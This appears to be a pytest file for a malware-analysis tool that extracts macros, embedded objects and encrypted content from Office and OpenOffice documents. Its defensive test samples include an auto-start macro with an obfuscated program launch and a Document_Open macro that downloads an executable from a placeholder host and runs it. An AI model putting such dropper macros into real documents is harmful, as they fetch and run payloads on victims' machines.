"""What comes out of Office documents."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from lazaretto.analysis.cage.host import Cage, sheet
from lazaretto.analysis.documents import locked
from lazaretto.analysis.engine import Member, Subject
from lazaretto.analysis.examine import Examiner
from lazaretto.analysis.findings import load_meanings
from lazaretto.analysis.identify import identify
from lazaretto.analysis.rulefiles import default_folder
from lazaretto.analysis.unpackers import office
from lazaretto.testing.documents import PROGRAM, ids, look, members, object1, packaged, shortfalls, word, zipped
from lazaretto.testing.vba import compound, docm, odt, vba_project

MEANINGS = load_meanings(default_folder())


def test_macros_are_parts() -> None:
    outputs = look(office.examine, docm("Sub A()\nEnd Sub", {"Other": "' b"}))
    found = members(outputs)
    assert set(found) == {"ThisDocument.bas", "Other.bas"}
    assert found["Other.bas"].relation == "macro"
    assert found["Other.bas"].data == b'Attribute VB_Name = "Other"\n\' b'
    basic = members(look(office.examine, odt("Sub Main\nEnd Sub")))
    assert basic["Module1.bas"].data == b'Attribute VB_Name = "Module1"\nSub Main\nEnd Sub'


def test_other_languages_of_openoffice_are_parts() -> None:
    data = zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Scripts/python/a.py": "import os\n"})
    assert members(look(office.examine, data))["a.py"].relation == "macro"


def test_modules_that_no_project_names_are_found() -> None:
    tree = dict(vba_project({"Hidden": "Sub A()\nEnd Sub"}, "none"))["VBA"]
    data = compound({"WordDocument": b"x", "Odd": {"stream": tree["Hidden"]}})  # type: ignore[index]  # a folder
    found = members(look(office.examine, data, "a.doc"))
    assert b"Sub A()" in found["stream.bas"].data


def test_packages_come_out_as_the_files_they_are() -> None:
    holder = compound({"\x01Ole10Native": packaged("a.txt", b"hello there")})
    inside = compound(
        {"WordDocument": b"x", "ObjectPool": {"_1": {"\x01Ole10Native": packaged("a.txt", b"hello there")}}}
    )
    for data in (holder, inside, word({"word/embeddings/oleObject1.bin": holder})):
        found = members(look(office.examine, data))
        assert found["a.txt"].data == b"hello there"
        assert found["a.txt"].relation == "embedded"


def test_documents_in_documents_come_out_and_pictures_do_not() -> None:
    inner = word()
    data = word(
        {"word/embeddings/Sheet.xlsx": inner, "word/media/a.png": b"\x89PNG\r\n\x1a\n", "word/odd.exe": PROGRAM}
    )
    found = members(look(office.examine, data))
    assert found["Sheet.xlsx"].data == inner
    assert set(found) == {"Sheet.xlsx", "odd.exe"}


def test_an_object_of_another_program_comes_out_whole() -> None:
    other = compound({"Equation Native": b"\x1c\0\0\0" + bytes(40)})
    assert members(look(office.examine, word({"word/embeddings/o.bin": other})))["o.bin"].data == other


def rich_text(data: bytes) -> bytes:
    return b"{\\rtf1 {\\object{\\*\\objdata " + data.hex().encode() + b"}}}"


def test_objects_of_rich_text() -> None:
    text = rich_text(object1("Package", packaged("a.txt", b"hello", sized=False)))
    assert members(look(office.examine, text))["a.txt"].data == b"hello"
    inner = compound({"Contents": b"x" * 50})
    text = rich_text(object1("Other.1", inner))
    assert members(look(office.examine, text))["Other.1 1"].data == inner


def encrypted(password: str) -> bytes:
    """msoffcrypto writes files under 4 KiB wrongly, so this one has a long text that does not compress."""
    noise = "".join(hashlib.sha256(bytes([number])).hexdigest() for number in range(250))
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(docm("Sub A()\nEnd Sub", text=noise))).encrypt(password, out)
    return out.getvalue()


def test_encrypted_documents() -> None:
    data = encrypted("secret")
    closed = look(office.examine, data, "a.docx")
    assert ids(closed) == {"document-encrypted"}
    assert members(closed)["a.docx (decrypted)"].closed == "encrypted"
    assert shortfalls(closed)
    opened = look(office.examine, data, "a.docx", {"passwords": ["infected", "secret"]})
    assert ids(opened) == {"document-encrypted-opened"}
    assert shortfalls(opened) == []
    inner = members(opened)["a.docx"]
    assert (inner.relation, inner.password, identify(inner.data).name) == ("decoded", "secret", "docm")


def test_what_opens_by_itself_is_opened() -> None:
    outputs = look(office.examine, encrypted(locked.DEFAULT), "a.xlsx")
    assert ids(outputs) == {"document-encrypted-default"}
    assert ids(look(office.examine, word())) == set()


def test_encrypted_openoffice_is_said_to_be() -> None:
    manifest = "<m:manifest xmlns:m='a'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"
    kind = "application/vnd.oasis.opendocument.text"
    closed = look(office.examine, zipped({"mimetype": kind, "META-INF/manifest.xml": manifest}))
    assert ids(closed) == {"document-encrypted"}
    assert shortfalls(closed)
    assert ids(look(office.examine, odt("Sub A\nEnd Sub"))) == set()


def test_bombs_are_bounded() -> None:
    data = word({"word/embeddings/a.docx": b"PK\x03\x04" + bytes(300 << 10)})
    assert members(look(office.examine, data, options={"room": 1 << 10}))["a.docx"].closed == "too large"
    many = {f"word/embeddings/{n}.docx": b"PK\x03\x04%d" % n for n in range(600)}
    outputs = look(office.examine, word(many))
    assert len(members(outputs)) == 500
    assert shortfalls(outputs)


@pytest.mark.parametrize(
    "data", [b"PK\x03\x04", zipped({"[Content_Types].xml": ""})[:60], b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"]
)
def test_broken_files_end_in_a_word(data: bytes) -> None:
    kind = identify(word() if data[:2] == b"PK" else compound({"WordDocument": b"x"}))
    outputs = list(office.examine(Subject(data=data, name="a", kind=kind)))
    assert shortfalls(outputs)


@pytest.mark.slow
def test_in_the_cage_with_all_engines() -> None:
    """The document is opened, its macro is a part and counts with it, the program in it stands for itself."""
    with Cage(at_once=2) as cage:
        tree = Examiner(cage, MEANINGS)(encrypted(locked.DEFAULT), "a.docx")
        assert [child.relation for child in tree.children] == ["decoded"]
        assert all(not looked.failed for node in tree.walk() for looked in node.looked)
        source = 'Sub AutoOpen()\nShell StrReverse("exe.clac")\nEnd Sub'
        holder = compound({"\x01Ole10Native": packaged("a.exe", PROGRAM)})
        data = compound({"WordDocument": b"x" * 600, "Macros": vba_project({"ThisDocument": source}, "ThisDocument"),
                         "ObjectPool": {"_1": {"\x01Ole10Native": packaged("a.exe", PROGRAM)}}})  # fmt: skip
        tree = Examiner(cage, MEANINGS)(data, "a.doc")
        assert all(not looked.failed for node in tree.walk() for looked in node.looked), tree
        own = {found.id for node in tree.own() for found in node.evidence}
        assert {"macro-auto-starts-program", "macro-hides-what-it-does", "document-carries-program"} <= own
        assert [node.path for node in tree.files()] == [("a.exe",)]
        with sheet(holder) as fd:
            outcome = cage.run(office.ENGINE, fd, name="a", kind=identify(holder))
        assert outcome.outputs == tuple(look(office.examine, holder, "a"))


def test_every_finding_of_the_catalogue_is_tested_here() -> None:
    text = Path(__file__).read_text()
    assert [name for name in MEANINGS.by_id if name.startswith("document-encrypted") and f'"{name}"' not in text] == []


def test_macros_are_judged_once() -> None:
    """The engine of macros owns them: to the engine of scripts they would look like VBScript."""
    body = 'CreateObject("MSXML2.XMLHTTP").Open "GET", "http://a.example/b.exe"\nCreateObject("WScript.Shell").Run "b"'
    for data in (docm(f"Sub Document_Open()\n{body}\nEnd Sub\n"), odt(f"Sub Main\n{body}\nEnd Sub")):
        macros = [one for one in look(office.examine, data) if isinstance(one, Member) and one.relation == "macro"]
        assert macros
        assert {identify(one.data, one.name).name for one in macros} == {"vba"}
        assert all(one.data.count(b"Attribute VB_Name") == 1 for one in macros)
